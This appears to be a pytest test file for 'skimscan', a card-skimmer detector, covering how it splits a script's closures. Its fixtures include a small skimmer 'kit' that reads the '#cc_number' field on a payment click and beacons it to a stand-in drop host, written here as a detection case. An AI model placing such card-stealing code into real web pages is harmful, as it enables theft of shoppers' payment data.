"""Closures of one script kept apart (skimscan/analyze/units.py): a vendor bundle's libraries
do not join into a skimmer, and a kit appended in a closure of its own is still one."""

from __future__ import annotations

from typing import Any

import pytest

from skimscan.analyze.parse import parse, run_deep
from skimscan.analyze.units import GLOBAL, Locator, Units, closure_spans, located_spans
from skimscan.models import Location, Verdict

from .conftest import findings_of

DROP = "https://metrics-drop.top/c"


def tree(code: str) -> Any:
    result = run_deep(lambda: parse(code))
    assert result.tree is not None, result.error
    return result.tree


@pytest.mark.parametrize("closure", [
    "(function () { var a = 1; })();",
    "!function (e) { e.a = 1; }(window);",
    "(() => { let a = 1; })();",
    "var Lib = (function (exports) { return exports; })({});",
    "window.Lib = (function () { return {}; }());",
    "(function () { this.a = 1; }).call(this);",
    "(function (g, f) { g.Lib = f(); })(this, function () { return {}; });",
])
def test_immediately_invoked_closures_are_units(closure: str) -> None:
    code = f"{closure}\n{closure}\nvar x = 1;"
    spans = closure_spans(tree(code))
    assert len(spans) == 2
    assert code[spans[0][0]:spans[0][1]] == closure


@pytest.mark.parametrize("statement", [
    "function send(d) { navigator.sendBeacon('/x', d); }",
    "var kit = { send: function (d) { return d; } };",
    "jQuery(function () { var a = 1; });",
    "document.addEventListener('click', function () { var a = 1; });",
    "window.send = function (d) { return d; };",
])
def test_global_code_is_no_unit(statement: str) -> None:
    """What global code defines can be reached from anywhere by name: never a unit."""
    code = f"{statement}\n{statement}\n(function () {{}})();\n(function () {{}})();"
    spans = closure_spans(tree(code))
    assert len(spans) == 2 and all(code[s:e].startswith("(function") for s, e in spans)


def test_a_single_closure_has_nothing_to_keep_apart() -> None:
    assert closure_spans(tree("(function () {})();\nvar a = 1;")) == ()


def test_nodes_and_locations_find_their_unit() -> None:
    code = "var g = 1;\n(function () { var a = 1; })();\n(function () { var b = 2; })();\n"
    program = tree(code)
    units = Units(closure_spans(program))
    first, second = program.body[1], program.body[2]
    assert units.of(program.body[0]) == GLOBAL
    assert units.of(first.expression.callee.body) == 0
    assert units.of(second.expression.callee.body.body[0]) == 1
    locate = Locator(located_spans(program))
    assert locate(Location(1, 4)) == GLOBAL
    assert locate(Location(2, 20)) == 0
    assert locate(Location(3, 1)) == 1


# Two libraries of one vendor bundle, each in its own closure: a card formatter that reads
# the card fields (and has its own `format`), an analytics library that sends its own events
# (and calls `.format()` on its own objects).
CARD_LIBRARY = """(function () {
  var Fmt = { format: function (el) { var v = el.value.replace(/\\D/g, '');
    el.value = v.replace(/(\\d{4})/g, '$1 ').trim(); return v; } };
  document.querySelector('#cc_number').addEventListener('input', function (e) {
    Fmt.format(e.target); });
})();"""
ANALYTICS = f"""(function () {{
  var clock = {{ format: function (t) {{ return String(t); }} }};
  document.addEventListener('click', function () {{
    var at = clock.format(Date.now());
    navigator.sendBeacon('{DROP}', JSON.stringify({{event: 'click', at: at}})); }});
}})();"""


@pytest.mark.parametrize("analytics", [
    ANALYTICS,
    # the call inside the send's own arguments (its deps worked out before the walk reaches it)
    ANALYTICS.replace("var at = clock.format(Date.now());\n", "").replace(
        "at: at", "at: clock.format(Date.now())"),
])
def test_libraries_of_a_bundle_do_not_make_a_skimmer(analytics: str, analyze) -> None:  # type: ignore[no-untyped-def]
    report = analyze(f"{CARD_LIBRARY}\n{analytics}\n")
    assert report.verdict is not Verdict.MALICIOUS, [f.rule for f in report.findings]
    assert not findings_of(report, "card-read-with-untrusted-send")
    assert not findings_of(report, "card-data-to-untrusted-host")


def test_the_same_code_in_one_closure_is_judged_together(analyze) -> None:  # type: ignore[no-untyped-def]
    """The combination rules still see card reads beside a send within one closure."""
    inner = CARD_LIBRARY[len("(function () {"):-len("})();")] + \
        ANALYTICS[len("(function () {"):-len("})();")]
    report = analyze(f"(function () {{{inner}}})();\n(function () {{}})();\n")
    assert findings_of(report, "card-read-with-untrusted-send")


def test_a_kit_in_its_own_closure_hands_the_card_to_a_librarys_transport(analyze) -> None:  # type: ignore[no-untyped-def]
    """Arguments cross closures: the kit reuses the library's exported sender."""
    library = ("(function () { var t = { send: function (u, d) {\n"
               "  navigator.sendBeacon(u, JSON.stringify(d)); } };\n"
               "  window.lib = { transport: t }; })();")
    kit = ("(function (l) { document.querySelector('#pay').addEventListener('click', "
           "function () {\n"
           f"  l.transport.send('{DROP}', {{n: document.querySelector('#cc_number').value}});"
           " }); })(window.lib);")
    report = analyze(f"{library}\n{kit}\n")
    assert report.verdict is Verdict.MALICIOUS, [f.rule for f in report.findings]
    assert findings_of(report, "card-data-to-untrusted-host")
